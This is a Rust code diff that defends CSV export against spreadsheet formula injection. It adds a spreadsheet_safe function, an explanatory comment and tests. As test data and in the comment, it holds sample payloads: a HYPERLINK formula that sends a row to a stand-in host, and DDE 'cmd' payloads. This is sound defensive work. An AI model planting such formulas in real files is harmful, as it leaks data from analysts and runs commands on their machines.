@@ -69,12 +69,14 @@ impl Table {
         Ok(())
     }
 
-    /// CSV with a header row.
+    /// CSV with a header row; cells a spreadsheet would run as a formula are defused
+    /// ([`spreadsheet_safe`]).
     pub fn write_csv(&self, out: &mut dyn Write) -> Result<()> {
         let mut writer = csv::Writer::from_writer(out);
         writer.write_record(&self.headers)?;
         for row in &self.rows {
-            writer.write_record(row)?;
+            let cells: Vec<_> = row.iter().map(|cell| spreadsheet_safe(cell)).collect();
+            writer.write_record(cells.iter().map(|cell| cell.as_bytes()))?;
         }
         writer.flush()?;
         Ok(())
@@ -92,6 +94,28 @@ impl Table {
             cut.push('…');
             cut
         }
+    }
+}
+
+/// A cell as a spreadsheet should read it: text. Titles, sellers and descriptions come from the
+/// people being investigated, and analysts open CSV output in a spreadsheet, which runs a cell
+/// beginning with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
+/// `=HYPERLINK("http://…?"&A2, "photos")` would send the row to whoever wrote it. Such a cell is
+/// prefixed with `'`, which spreadsheets read as "text follows" and do not show. A cell that is
+/// only a signed number (`-5`, `+389 70 123 456`) is left as it is: it computes nothing, and
+/// phones in E.164 keep their `+` for scripts. JSON and NDJSON are never changed.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let starts_formula = match cell.chars().next() {
+        Some('=' | '@' | '\t' | '\r') => true,
+        Some('+' | '-') => !cell[1..]
+            .chars()
+            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',' | '(' | ')' | '-')),
+        _ => false,
+    };
+    if starts_formula {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
     }
 }
 
@@ -135,6 +159,55 @@ mod tests {
             text,
             "ID              TITLE\na:1             Глок [2J 19\nclassifieds:22  x\n"
         );
+    }
+
+    #[test]
+    fn csv_defuses_formulas_and_keeps_numbers() {
+        let mut t = Table::new(vec!["a"]);
+        for cell in [
+            "=HYPERLINK(\"http://x.test/?\"&A2,\"photos\")",
+            "@SUM(A1)",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1",
+            "+389 70 123 456",
+            "-5",
+            "Glock = 350 €",
+        ] {
+            t.row(vec![cell.into()]);
+        }
+        let mut out = Vec::new();
+        t.write_csv(&mut out).unwrap();
+        let rows: Vec<String> = csv::Reader::from_reader(out.as_slice())
+            .records()
+            .map(|r| r.unwrap()[0].to_string())
+            .collect();
+        assert_eq!(
+            rows,
+            [
+                "'=HYPERLINK(\"http://x.test/?\"&A2,\"photos\")",
+                "'@SUM(A1)",
+                "'+cmd|' /C calc'!A0",
+                "'-2+3+cmd|' /C calc'!A0",
+                "'\t=1+1",
+                "+389 70 123 456",
+                "-5",
+                "Glock = 350 €",
+            ]
+        );
+    }
+
+    proptest::proptest! {
+        /// A defused cell is the cell behind one `'`; any other is left as it is; and no output
+        /// cell starts a formula.
+        #[test]
+        fn spreadsheet_safe_only_prefixes(cell in "[=+@\t\r-]?[-+=@a-z0-9 ,.()|'\"!]{0,12}") {
+            let safe = spreadsheet_safe(&cell);
+            let prefixed = format!("'{cell}");
+            proptest::prop_assert!(safe == cell || *safe == prefixed);
+            let first = safe.chars().next();
+            proptest::prop_assert!(!matches!(first, Some('=' | '@' | '\t' | '\r')));
+        }
     }
 
     #[test]
